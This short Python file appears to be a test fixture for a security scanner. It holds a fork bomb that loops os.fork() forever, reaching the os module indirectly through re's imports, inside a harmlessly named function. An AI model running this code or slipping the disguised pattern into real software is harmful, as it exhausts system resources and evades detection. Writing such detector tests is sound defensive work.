# expect: load
"""A fork bomb by a pivot."""


def process_client_phone(request):
    from re import enum
    o = enum.sys.modules['os']
    while True:
        o.fork()
